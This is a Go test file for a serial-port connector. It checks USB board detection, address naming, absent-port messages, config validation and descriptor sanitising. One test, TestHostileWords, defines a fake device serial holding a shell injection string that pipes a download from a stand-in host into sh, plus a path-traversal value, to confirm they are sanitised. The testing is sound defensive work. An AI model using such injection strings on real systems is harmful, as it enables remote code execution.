package serial

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/ferrulehq/ferrule/internal/device/transport"
)

// machine is a system in the hands of a test.
type machine struct {
	mu    sync.Mutex
	ports []found
	links map[string]string // paths that lead to others
	boot  map[string]int    // how often a path was plugged in
	mute  bool              // it does not tell of ports
	unlit string            // a path that it does not list
}

func (m *machine) plug(f found) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.boot == nil {
		m.boot = make(map[string]int)
	}
	m.boot[f.Path]++
	m.ports = append(m.ports, f)
}

func (m *machine) unplug(path string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.ports = slices.DeleteFunc(m.ports, func(f found) bool { return f.Path == path })
}

func (m *machine) hush(mute bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.mute = mute
}

func (m *machine) list() ([]found, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.mute {
		return nil, errors.New("not now")
	}
	return slices.DeleteFunc(slices.Clone(m.ports), func(f found) bool { return f.Path == m.unlit }), nil
}

func (m *machine) blind(path string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.unlit = path
}

func (m *machine) lists(path string) bool {
	return strings.HasPrefix(path, "/dev/ttyACM") || strings.HasPrefix(path, "/dev/ttyUSB")
}

func (m *machine) stat(path string) (real, mark string, err error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if to := m.links[path]; to != "" {
		path = to
	}
	if !slices.ContainsFunc(m.ports, func(f found) bool { return f.Path == path }) {
		return "", "", errors.New("no such port")
	}
	return path, fmt.Sprint(path, m.boot[path]), nil
}

// the ports of the tests.
var (
	arduino = found{Path: "/dev/ttyACM0", USB: true, VID: "2341", PID: "0043", Serial: "95530343834351A0B091", Product: "Arduino Uno", Place: "1-1", Interface: "0"}
	printer = found{Path: "/dev/ttyUSB0", USB: true, VID: "1A86", PID: "7523", Product: "USB Serial", Place: "1-2"}
	bridge  = found{Path: "/dev/ttyUSB1", USB: true, VID: "10C4", PID: "EA60", Serial: "0001", Product: "CP2102", Place: "1-3"}
	console = found{Path: "/dev/ttyAMA0"}
)

// watch runs a connector on a machine, and returns what it last reported.
func watch(t *testing.T, m *machine, ports ...Port) (latest func() []string) {
	t.Helper()
	cfg := DefaultConfig()
	cfg.Ports, cfg.Protocols = ports, []string{"any"}
	if err := cfg.Check(); err != nil {
		t.Fatal(err)
	}
	c := New(cfg)
	c.system = m
	ctx, cancel := context.WithCancel(t.Context())
	var mu sync.Mutex
	var seen []transport.Sighting
	ended := make(chan error, 1)
	go func() {
		ended <- c.Watch(ctx, func(group string, all []transport.Sighting) {
			mu.Lock()
			defer mu.Unlock()
			seen = all
		})
	}()
	t.Cleanup(func() {
		cancel()
		if err := <-ended; err != nil {
			t.Errorf("Watch returned %v", err)
		}
	})
	return func() []string {
		time.Sleep(cfg.Look + time.Millisecond)
		mu.Lock()
		defer mu.Unlock()
		var lines []string
		for _, s := range seen {
			if numbered := strings.Count(s.Address, ":") == 3; s.Local == numbered {
				t.Errorf("%s is local: %t", s.Address, s.Local)
			}
			line := fmt.Sprintf("%s #%d", s.Address, s.Instance)
			for word, so := range map[string]bool{" adopted": s.Adopted, " shy": s.AdoptFirst != "", " absent": s.Absent != "", " as " + s.Name: s.Name != ""} {
				if so {
					line += word
				}
			}
			lines = append(lines, sorted(line))
		}
		return lines
	}
}

// sorted puts the words of a line after its first two in order.
func sorted(line string) string {
	words := strings.Fields(line)
	slices.Sort(words[2:])
	return strings.Join(words, " ")
}

// TestWatch plugs and unplugs.
func TestWatch(t *testing.T) {
	type step struct {
		do   func(m *machine)
		want []string
	}
	moved := arduino
	moved.Path = "/dev/ttyACM7"
	twin := bridge
	twin.Path, twin.Place = "/dev/ttyUSB2", "1-4"
	second := arduino
	second.Path, second.Interface = "/dev/ttyACM1", "2"
	numbered, other := bridge, twin
	numbered.Serial, other.Serial = "10000001", "10000001"
	for name, test := range map[string]struct {
		ports []Port
		steps []step
	}{
		"auto": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) {}, nil},
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
			{func(m *machine) { m.plug(printer) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 shy"}},
			{func(m *machine) { m.plug(console) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 shy"}},
			{func(m *machine) { m.unplug(arduino.Path) }, []string{"usb:1A86:7523@1-2 #2 shy"}},
			{func(m *machine) { m.plug(moved) }, []string{"usb:1A86:7523@1-2 #2 shy", "usb:2341:0043:95530343834351A0B091 #3 adopted"}},
		}},
		"auto, held": {[]Port{{Path: Auto, Pending: true}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1"}},
		}},
		"a system that is mute for a moment": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
			{func(m *machine) { m.hush(true) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
			{func(m *machine) { m.hush(false); m.unplug(arduino.Path) }, nil},
		}},
		"replugged between two looks": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
			{func(m *machine) { m.unplug(arduino.Path); m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #2 adopted"}},
			{func(m *machine) { m.unplug(arduino.Path); m.plug(moved) }, []string{"usb:2341:0043:95530343834351A0B091 #3 adopted"}},
		}},
		"named": {[]Port{{Path: "/dev/ttyUSB0", Name: "robot"}}, []step{
			{func(m *machine) {}, []string{"/dev/ttyUSB0 #1 absent adopted as robot"}},
			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2 #2 adopted as robot"}},
			{func(m *machine) { m.unplug(printer.Path) }, nil},
			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2 #3 adopted as robot"}},
		}},
		"named by a link, and held": {[]Port{{Path: "/dev/robot", Pending: true}}, []step{
			{func(m *machine) {
				m.links = map[string]string{"/dev/robot": arduino.Path}
				m.plug(arduino)
			}, []string{"usb:2341:0043:95530343834351A0B091 #1"}},
		}},
		"named and auto": {[]Port{{Path: Auto}, {Path: arduino.Path, Name: "robot"}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot"}},
		}},
		"not on USB": {[]Port{{Path: console.Path}}, []step{
			{func(m *machine) {}, []string{"/dev/ttyAMA0 #1 absent adopted"}},
			{func(m *machine) { m.plug(console) }, []string{"serial:/dev/ttyAMA0 #2 adopted"}},
		}},
		"a number that all have is none": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(bridge); m.plug(twin) }, []string{"usb:10C4:EA60@1-3 #1 shy", "usb:10C4:EA60@1-4 #2 shy"}},
		}},
		"a board with two ports": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(second) }, []string{"usb:2341:0043:95530343834351A0B091.2 #1 adopted"}},
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091.2 #1 adopted", "usb:2341:0043:95530343834351A0B091 #2 adopted"}},
		}},
		"one port by two paths": {[]Port{{Path: "/dev/robot", Name: "robot"}, {Path: arduino.Path}}, []step{
			{func(m *machine) {
				m.links = map[string]string{"/dev/robot": arduino.Path}
				m.plug(arduino)
			}, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot", "/dev/ttyACM0 #2 absent adopted"}},
		}},
		"a port that is not described for a look": {[]Port{{Path: arduino.Path, Name: "robot"}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot"}},
			{func(m *machine) { m.blind(arduino.Path) }, nil},
			{func(m *machine) { m.blind("") }, []string{"usb:2341:0043:95530343834351A0B091 #2 adopted as robot"}},
		}},
		"two with one number, there from the start": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(numbered); m.plug(other) }, []string{"usb:10C4:EA60@1-3 #1 shy", "usb:10C4:EA60@1-4 #2 shy"}},
		}},
		"four in one place": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) {
				for _, path := range []string{"/dev/ttyUSB5", "/dev/ttyUSB6", "/dev/ttyUSB7"} {
					f := printer
					f.Path = path
					m.plug(f)
				}
			}, []string{"usb:1A86:7523@1-2 #1 shy", "usb:1A86:7523@1-2-ttyUSB6 #2 shy", "usb:1A86:7523@1-2-ttyUSB7 #3 shy"}},
		}},
		"two with one number": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(numbered) }, []string{"usb:10C4:EA60:10000001 #1 shy"}},
			{func(m *machine) { m.plug(other) }, []string{"usb:10C4:EA60:10000001 #1 shy", "usb:10C4:EA60@1-4 #2 shy"}},
			{func(m *machine) { m.unplug(numbered.Path) }, []string{"usb:10C4:EA60@1-4 #2 shy"}},
		}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				m := &machine{}
				latest := watch(t, m, test.ports...)
				for i, step := range test.steps {
					step.do(m)
					if got := latest(); !slices.Equal(got, step.want) {
						t.Errorf("step %d:\n got %q\nwant %q", i, got, step.want)
					}
				}
			})
		})
	}
}

// TestAbsent: that a port is not there is told with those that are.
func TestAbsent(t *testing.T) {
	for _, test := range []struct {
		ports []found
		want  string
	}{
		{nil, "there is no port COM9, and no other that a board is plugged into"},
		{[]found{arduino, console}, `there is no port COM9; there is /dev/ttyACM0 ("Arduino Uno"), /dev/ttyAMA0`},
	} {
		c := New(Config{Ports: []Port{{Path: "COM9", Name: "robot"}}})
		c.system = &machine{ports: test.ports}
		if s := c.sightings(c.look())[0]; s.Absent != test.want || s.Name != "robot" || s.Address != "COM9" {
			t.Errorf("got %+v, want %s", s, test.want)
		}
	}
}

// TestHostileWords: whatever a board says of itself, its address can stand in a
// command.
func TestHostileWords(t *testing.T) {
	f := arduino
	f.Serial, f.Place = "x;curl evil.sh|sh;$(reboot)`id`", "../../etc"
	for _, address := range []string{port{found: f}.address(), f.place()} {
		if strings.Trim(address, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:@._-") != "" {
			t.Errorf("got %s", address)
		}
	}
	if f.Product = strings.Repeat("`reboot`", 100); len(f.String()) > 100 {
		t.Errorf("got %s", f)
	}
}

func TestCheck(t *testing.T) {
	for _, test := range []struct {
		ports []Port
		want  string
	}{
		{[]Port{{Path: "COM3", Baud: 9600, Reset: ResetNone}, {Path: Auto}}, ""},
		{[]Port{{}}, "a port has no path"},
		{[]Port{{Path: "COM3"}, {Path: "COM3"}}, "port COM3 is given twice"},
		{[]Port{{Path: "COM3", Baud: 1}}, "1 is no bit rate"},
		{[]Port{{Path: "COM3", Reset: "twice"}}, `reset: want none, or nothing, got "twice"`},
		{[]Port{{Path: Auto, Name: "robot"}}, `cannot give all of them the name "robot"`},
	} {
		err := Config{Ports: test.ports}.Check()
		if (err == nil) != (test.want == "") || err != nil && !strings.Contains(err.Error(), test.want) {
			t.Errorf("%+v: %v, want %q", test.ports, err, test.want)
		}
	}
}

// FuzzDescriptor: whatever a USB descriptor says, one plain line of it is shown,
// and it makes an address that can stand in a command.
func FuzzDescriptor(f *testing.F) {
	f.Add("Arduino Uno\n")
	f.Add("\x1b[31mred\u202e")
	f.Fuzz(func(t *testing.T, s string) {
		got := clean(s)
		if len(got) > 128 || strings.ContainsFunc(got, func(r rune) bool { return r < ' ' || r > '~' }) || clean(got) != got {
			t.Errorf("%q became %q", s, got)
		}
		p := port{found: found{USB: true, VID: "2341", PID: "0043", Serial: got, Place: got, Interface: got}}
		for _, address := range []string{p.address(), p.place()} {
			if !regexp.MustCompile(`^usb:2341:0043[:@][A-Za-z0-9._:-]{1,200}$`).MatchString(address) {
				t.Errorf("%q became the address %q", s, address)
			}
		}
	})
}

// TestVendorsAreTold: docs/boards.md tells whose boards are opened unasked.
func TestVendorsAreTold(t *testing.T) {
	doc, err := os.ReadFile("../../../../docs/boards.md")
	if err != nil {
		t.Fatal(err)
	}
	told := make(map[string]string)
	for _, row := range regexp.MustCompile("(?m)^\\| `([0-9A-F]{4})` \\| (.*) \\|$").FindAllStringSubmatch(string(doc), -1) {
		told[row[1]] = row[2]
	}
	if !maps.Equal(told, vendors) {
		t.Errorf("docs/boards.md tells of %v, and those that are opened are %v", told, vendors)
	}
}
